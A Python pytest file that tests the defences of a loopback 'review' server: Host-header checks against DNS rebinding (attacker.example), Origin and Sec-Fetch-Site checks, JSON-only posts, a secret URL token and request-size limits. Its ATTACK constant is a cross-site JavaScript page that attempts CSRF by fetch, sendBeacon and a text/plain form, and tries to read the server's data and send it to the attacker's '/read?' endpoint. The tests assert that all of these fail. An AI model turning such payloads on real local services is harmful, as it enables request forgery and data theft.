"""The server of a review lets in its own page alone: no other site, no other name, no form."""

import json
from collections.abc import Generator, Mapping
from contextlib import contextmanager
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from shutil import copytree
from threading import Thread
from typing import NamedTuple
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from runners.review.run import review_server
from runners.review.session import ReviewRequest
from tests.runners.commands import assert_one_line, coevol
from tests.support.chromium import browser
from tests.support.reviews import FLIPS, close_calls, judged, row, run_with, served

VERDICT = json.dumps({"number": 0, "choice": "left"})


class Answered(NamedTuple):
    """What the server answered."""

    status: int
    headers: dict[str, str]
    body: bytes


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run of two close calls."""
    return run_with(tmp_path, close_calls(2))


@pytest.fixture
def url(run: Path) -> Generator[str]:
    """The address of its review."""
    with served(ReviewRequest(run)) as url:
        yield url


def ask(
    url: str,
    what: str,
    method: str = "GET",
    body: str = "",
    headers: Mapping[str, str | None] | None = None,
) -> Answered:
    """Ask as a client that sends whatever it likes; a header that is None is left out."""
    port, path = urlsplit(url).port, urlsplit(url).path
    given = {"Host": f"127.0.0.1:{port}"} | {
        k.replace("_", "-"): v for k, v in (headers or {}).items()
    }
    connection = HTTPConnection("127.0.0.1", port, timeout=20)
    connection.putrequest(method, path + what, skip_host=True, skip_accept_encoding=True)
    for name, value in ({"Content-Length": str(len(body))} | given).items():
        if value is not None:
            connection.putheader(name, value)
    connection.endheaders(body.encode())
    answer = connection.getresponse()
    found = Answered(answer.status, dict(answer.headers), answer.read())
    connection.close()
    return found


def post(url: str, body: str = VERDICT, /, **headers: str | None) -> Answered:
    """Post a verdict as the page does, but for some headers."""
    given: dict[str, str | None] = {"Content_Type": "application/json", **headers}
    return ask(url, "verdict", "POST", body, given)


def is_untouched(run: Path) -> bool:
    """Whether nothing was kept."""
    return not (run / "review.jsonl").read_bytes()


def test_what_the_page_sends_is_taken(run: Path, url: str) -> None:
    own = f"http://127.0.0.1:{urlsplit(url).port}"
    assert post(url, Origin=own, Sec_Fetch_Site="same-origin").status == 200
    assert not is_untouched(run)
    assert ask(url, "now", headers={"Host": f"localhost:{urlsplit(url).port}"}).status == 200


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Host": "attacker.example"}, 421),  # its name was made to lead to 127.0.0.1
        ({"Host": "attacker.example:80"}, 421),
        ({"Host": None}, 421),
        ({"Host": "127.0.0.1"}, 421),  # another port, so another server
        ({"Origin": "https://attacker.example"}, 403),
        ({"Origin": "http://127.0.0.1:1"}, 403),
        ({"Origin": "null"}, 403),
        ({"Sec_Fetch_Site": "cross-site"}, 403),
        ({"Sec_Fetch_Site": "same-site"}, 403),
        ({"Content_Type": "text/plain"}, 415),  # all that a form can send
        ({"Content_Type": "application/x-www-form-urlencoded"}, 415),
        ({"Content_Type": None}, 415),
        ({"Content_Length": None}, 413),
        ({"Content_Length": "-1"}, 413),
        ({"Content_Length": "5000"}, 413),
    ],
)
def test_others_are_not_let_in(
    run: Path, url: str, headers: dict[str, str | None], status: int
) -> None:
    answer = post(url, VERDICT, **headers)
    assert answer.status == status
    assert is_untouched(run)
    assert "Access-Control-Allow-Origin" not in answer.headers
    if status in (421, 403):
        assert ask(url, "now", headers=headers).status == status
        assert ask(url, "", headers=headers).status == status


def test_the_address_is_a_secret(run: Path, url: str) -> None:
    root = url[: url.index("/", 8) + 1]
    for path in ("", "now", "verdict", "wrong/now", f"{url.split('/')[3][:-1]}/now"):
        answer = ask(root, path)
        assert answer.status == 404
        assert url.split("/")[3].encode() not in answer.body
    assert post(f"{root}wrong/").status == 404
    assert is_untouched(run)
    with review_server_of(run) as other:
        assert other != url.split("/")[3]


@contextmanager
def review_server_of(run: Path) -> Generator[str]:
    """Another review, of a copy of the run; its secret."""
    other = copytree(run, run.with_name("copy"))
    with review_server(ReviewRequest(other)) as server:
        assert server.server_address[0] == "127.0.0.1", "loopback only"
        yield server.token


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ("", 400),
        ("left", 400),
        ('{"number": 0}', 400),
        ('{"number": 0, "choice": "edited"}', 400),
        ('{"number": "0", "choice": "left"}', 400),
        ('{"number": 0, "choice": "left", "by": "me"}', 400),
        ('{"number": 2, "choice": "left"}', 409),
        ('{"number": -1, "choice": "left"}', 409),
    ],
)
def test_what_is_no_verdict_is_not_kept(run: Path, url: str, body: str, status: int) -> None:
    answer = post(url, body)
    assert answer.status == status
    assert json.loads(answer.body)["error"]
    assert is_untouched(run)


def test_what_can_be_asked(url: str) -> None:
    assert ask(url, "verdict").status == 404
    assert ask(url, "now", "POST", "{}", {"Content-Type": "application/json"}).status == 404
    assert ask(url, "../run.db").status == 404
    assert ask(url, "verdict", "DELETE").status == 501
    page = ask(url, "")
    assert page.status == 200
    assert page.headers["Referrer-Policy"] == "no-referrer"  # the address has the secret in it
    assert page.headers["Cache-Control"] == "no-store"
    assert "frame-ancestors 'none'" in page.headers["Content-Security-Policy"]


def test_a_browser_that_is_slow_to_read_holds_no_other_up(tmp_path: Path) -> None:
    long = "a" * (32 << 20)  # more than the system keeps of what nobody reads
    run = run_with(tmp_path, [row("long", judged(long, "after", FLIPS[0]))])
    with served(ReviewRequest(run)) as url:
        slow = HTTPConnection("127.0.0.1", urlsplit(url).port or 0, timeout=20)
        slow.request("GET", f"{urlsplit(url).path}now")
        answer = slow.getresponse()
        assert ask(url, "").status == 200
        assert long.encode() in answer.read()  # it was still being sent
        slow.close()


ATTACK = """<!doctype html><body><script>
const verdict = {url} + "verdict", body = {body};
const json = {{"Content-Type": "application/json"}};
const ways = [
  () => fetch(verdict, {{method: "POST", mode: "no-cors", body}}),
  () => fetch(verdict, {{method: "POST", body, headers: json}}),
  () => fetch({url} + "now").then((answer) => answer.text()).then((text) => fetch("/read?" + text)),
  () => navigator.sendBeacon(verdict, new Blob([body], {{type: "application/json"}})),
];
(async () => {{
  for (const way of ways) {{ try {{ await way(); }} catch {{}} }}
  const form = document.body.appendChild(document.createElement("form"));
  form.method = "post"; form.enctype = "text/plain"; form.action = verdict;
  const field = form.appendChild(document.createElement("input"));
  field.name = body.slice(0, -1) + ', "a":"'; field.value = '"}}';
  form.submit();
}})();
</script>"""


def test_another_site_in_the_same_browser_can_do_nothing(run: Path, url: str) -> None:
    with site(url) as attacker, browser() as chromium:
        page = chromium.new_page()
        asked = list[str]()
        page.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
        page.goto(attacker)  # it even knows the secret
        page.wait_for_url(f"{url}verdict")  # the form comes last, and leads there
        expect(page.locator("body")).to_contain_text("asked by another page")
        assert asked.count(f"POST {url}verdict") == 4
        assert f"GET {url}now" in asked
        assert not [each for each in asked if "/read?" in each]
    assert is_untouched(run)


@contextmanager
def site(url: str) -> Generator[str]:
    """Another site, which tries to judge by all ways that pages have."""
    text = ATTACK.format(url=json.dumps(url), body=json.dumps(VERDICT))

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True  # a browser keeps connections open
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()
        thread.join()


def test_one_review_of_a_run_at_a_time(run: Path, url: str) -> None:
    result = coevol("review", run)
    assert result.code == 2
    assert_one_line(result.err, "another process is at work on this review")


def test_a_port_that_is_taken(run: Path, url: str) -> None:
    other = copytree(run, run.with_name("copy"))
    result = coevol("review", other, "--port", urlsplit(url).port)
    assert result.code == 2
    assert_one_line(result.err, "--port", "Address already in use", "give another")
